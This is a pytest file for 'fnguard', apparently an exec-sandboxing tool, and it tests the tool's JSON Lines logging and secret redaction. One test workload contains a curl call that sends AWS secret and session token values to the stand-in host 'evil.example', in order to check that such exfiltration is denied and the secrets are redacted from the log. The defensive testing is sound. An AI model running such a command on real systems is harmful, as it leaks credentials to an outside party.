"""The JSON Lines log: contract fields, start/exec/exit contents, sinks,
appending, and secret redaction."""
import re
import secrets
import subprocess

from conftest import (EXIT_VIOLATION, FNGUARD, PY, TIMEOUT, base_env,
                      exec_policy, parse_log_file, sha256_file, write_script)


def test_start_and_exit_lines(run_fnguard, probe, tmp_path):
    argv = [PY, "-c", "import sys; sys.exit(5)"]
    res = run_fnguard(exec_policy([]), argv)
    assert res.returncode == 5, res.dump()
    assert res.events, "empty log\n" + res.dump()
    assert res.events[0]["event"] == "start", res.dump()
    assert res.events[-1]["event"] == "exit", res.dump()

    st = res.one("start")
    assert st["tier"] == probe["tier"], res.dump()
    assert st["policy"] == str(res.policy_path), res.dump()
    assert st["policy_sha256"] == sha256_file(res.policy_path), res.dump()
    assert st["argv"] == argv, res.dump()
    ver = subprocess.run([FNGUARD, "--version"], capture_output=True, text=True,
                         timeout=TIMEOUT).stdout
    assert st["version"] and st["version"] in ver, (st["version"], ver)

    ex = res.one("exit")
    assert ex["status"] == 5, res.dump()
    assert ex.get("signal") in (None, 0), res.dump()
    assert isinstance(ex["duration_ms"], (int, float)) and ex["duration_ms"] >= 0, res.dump()
    assert isinstance(ex["counts"], dict), res.dump()
    ts = [e["ts"] for e in res.events]
    assert ts == sorted(ts), "timestamps go backwards\n" + res.dump()


def test_exec_line_fields_and_counts(run_fnguard, tmp_path, kernel_tier):
    src = """
import subprocess, sys
for i in range(2):
    try:
        subprocess.run(["/usr/bin/touch", sys.argv[1]])
    except PermissionError:
        pass
"""
    s = write_script(tmp_path / "w.py", src, 0o644)
    marker = tmp_path / "MARKER"
    res = run_fnguard(exec_policy(["/usr/bin/true"], action="deny"), [PY, s, marker])
    assert res.returncode == 0, res.dump()
    assert not marker.exists(), res.dump()
    denied = res.of("exec", action="deny")
    assert len(denied) == 2, res.dump()
    for e in denied:
        assert e["path"] == "/usr/bin/touch", e
        assert e["argv"] == ["/usr/bin/touch", str(marker)], e
        for k in ("rule", "reason", "exe"):
            assert e.get(k), f"exec line without {k}: {e}"
    counts = res.one("exit")["counts"]
    assert counts.get("exec", {}).get("deny") == 2, counts


def test_function_name_from_policy(run_fnguard):
    res = run_fnguard("version: 1\nname: my-fn\n", ["/usr/bin/true"],
                      env=base_env(AWS_LAMBDA_FUNCTION_NAME="from-env"))
    assert res.returncode == 0, res.dump()
    assert {e["function"] for e in res.events} == {"my-fn"}, res.dump()


def test_function_name_from_env(run_fnguard):
    res = run_fnguard("version: 1\n", ["/usr/bin/true"],
                      env=base_env(AWS_LAMBDA_FUNCTION_NAME="from-env"))
    assert res.returncode == 0, res.dump()
    assert {e["function"] for e in res.events} == {"from-env"}, res.dump()


def test_log_appends(tmp_path):
    pol = tmp_path / "p.yaml"
    pol.write_text("version: 1\n")
    log = tmp_path / "log.jsonl"
    log.write_text("")
    for code in (0, 1):
        subprocess.run([FNGUARD, "run", "-p", pol, "--log", log, "--",
                        PY, "-c", f"import sys; sys.exit({code})"],
                       timeout=TIMEOUT, env=base_env(), capture_output=True)
    ev = parse_log_file(log)
    assert [e["event"] for e in ev if e["event"] in ("start", "exit")] == \
        ["start", "exit", "start", "exit"], ev
    assert [e["status"] for e in ev if e["event"] == "exit"] == [0, 1], ev


def test_log_to_stderr(run_fnguard, tmp_path):
    src = "import sys; sys.stderr.write('workload noise\\n'); sys.exit(2)"
    res = run_fnguard("version: 1\n", [PY, "-c", src], log=False)
    assert res.returncode == 2, res.dump()
    assert "workload noise" in res.stderr
    assert [e["event"] for e in res.events][0] == "start", res.dump()
    assert res.one("exit")["status"] == 2, res.dump()


def test_log_sink_from_policy(tmp_path):
    sink = tmp_path / "sink.jsonl"
    pol = tmp_path / "p.yaml"
    pol.write_text(f"version: 1\nlog:\n  sink: {sink}\n")
    p = subprocess.run([FNGUARD, "run", "-p", pol, "--", "/usr/bin/true"],
                       capture_output=True, text=True, timeout=TIMEOUT, env=base_env())
    assert p.returncode == 0, p.stderr
    ev = parse_log_file(sink)
    assert [e["event"] for e in ev] == ["start", "exit"], ev
    assert not [l for l in p.stderr.splitlines() if l.startswith("{")], p.stderr


# --- secrets ------------------------------------------------------------------

def _secret_env():
    return {n: "s3cr3t" + secrets.token_hex(16) for n in SECRET_NAMES}


SECRET_NAMES = ["AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "MY_API_TOKEN",
                "DB_PASSWORD", "STRIPE_KEY", "client_secret_value"]

SECRET_WORKLOAD = """
import os, subprocess, sys
vals = [os.environ[n] for n in %r]
try:
    subprocess.run(["/usr/bin/touch", sys.argv[1]] + vals + ["--key=" + vals[0]])
except PermissionError:
    pass
try:
    subprocess.run(["/usr/bin/curl", "https://evil.example/?k=" + vals[0] + vals[1]])
except (PermissionError, FileNotFoundError):
    pass
""" % SECRET_NAMES


def _assert_no_secret(data, sec, where):
    for name, val in sec.items():
        assert val not in data, f"{name}'s value appears in {where}"
        # A fragment long enough to identify the secret must not leak either.
        assert val[6:30] not in data, f"part of {name}'s value appears in {where}"


def test_secrets_never_logged(run_fnguard, tmp_path, kernel_tier):
    sec = _secret_env()
    s = write_script(tmp_path / "w.py", SECRET_WORKLOAD, 0o644)
    marker = tmp_path / "MARKER"
    # A secret is also in the command's own argv (the start line).
    res = run_fnguard(exec_policy(["/usr/bin/true"], action="deny"),
                      [PY, s, marker, sec["AWS_SECRET_ACCESS_KEY"]], env=base_env(**sec))
    assert res.returncode == 0, res.dump()
    data = res.log_path.read_text()
    _assert_no_secret(data, sec, "the log file")
    denied = res.of("exec", action="deny")
    assert len(denied) >= 1, res.dump()
    assert "[REDACTED:AWS_SECRET_ACCESS_KEY]" in data, res.dump()
    assert "[REDACTED:MY_API_TOKEN]" in data, res.dump()


def test_secrets_in_start_argv_and_kill_line(run_fnguard, tmp_path, kernel_tier):
    sec = _secret_env()
    src = """
import os, subprocess, sys
subprocess.run(["/usr/bin/touch", sys.argv[1], "pw=" + os.environ["DB_PASSWORD"]])
"""
    s = write_script(tmp_path / "w.py", src, 0o644)
    marker = tmp_path / "MARKER"
    res = run_fnguard(exec_policy(["/usr/bin/true"]),
                      [PY, s, marker, sec["AWS_SESSION_TOKEN"]], env=base_env(**sec))
    assert res.returncode == EXIT_VIOLATION, res.dump()
    data = res.log_path.read_text()
    _assert_no_secret(data, sec, "the log file")
    assert "[REDACTED:AWS_SESSION_TOKEN]" in res.one("start")["argv"], res.dump()
    kill = res.of("exec", action="kill")
    assert kill and "pw=[REDACTED:DB_PASSWORD]" in kill[0]["argv"], res.dump()


def test_secrets_never_on_stderr_log(run_fnguard, tmp_path, kernel_tier):
    sec = _secret_env()
    src = """
import os, subprocess, sys
subprocess.run(["/usr/bin/touch", sys.argv[1], os.environ["AWS_SECRET_ACCESS_KEY"]])
"""
    s = write_script(tmp_path / "w.py", src, 0o644)
    res = run_fnguard(exec_policy(["/usr/bin/true"]), [PY, s, tmp_path / "M"],
                      env=base_env(**sec), log=False)
    assert res.returncode == EXIT_VIOLATION, res.dump()
    assert res.of("exec", action="kill"), res.dump()
    _assert_no_secret(res.stderr, sec, "stderr")


def test_no_empty_or_partial_lines(run_fnguard, tmp_path, kernel_tier):
    """Many decisions from many processes at once: every line is whole."""
    src = """
import os, subprocess, sys
pids = []
for i in range(8):
    pid = os.fork()
    if pid == 0:
        for j in range(20):
            try:
                subprocess.run(["/usr/bin/touch", sys.argv[1] + str(i)])
            except PermissionError:
                pass
        os._exit(0)
    pids.append(pid)
for p in pids:
    os.waitpid(p, 0)
"""
    s = write_script(tmp_path / "w.py", src, 0o644)
    res = run_fnguard(exec_policy(["/usr/bin/true"], action="deny"),
                      [PY, s, tmp_path / "M"], timeout=120)
    assert res.returncode == 0, res.dump()
    assert len(res.of("exec", action="deny")) == 160, res.dump()
    assert res.one("exit")["counts"]["exec"]["deny"] == 160, res.dump()
    assert not list(tmp_path.glob("M*")), res.dump()
    assert re.search(r"\n\n", res.log_path.read_text()) is None
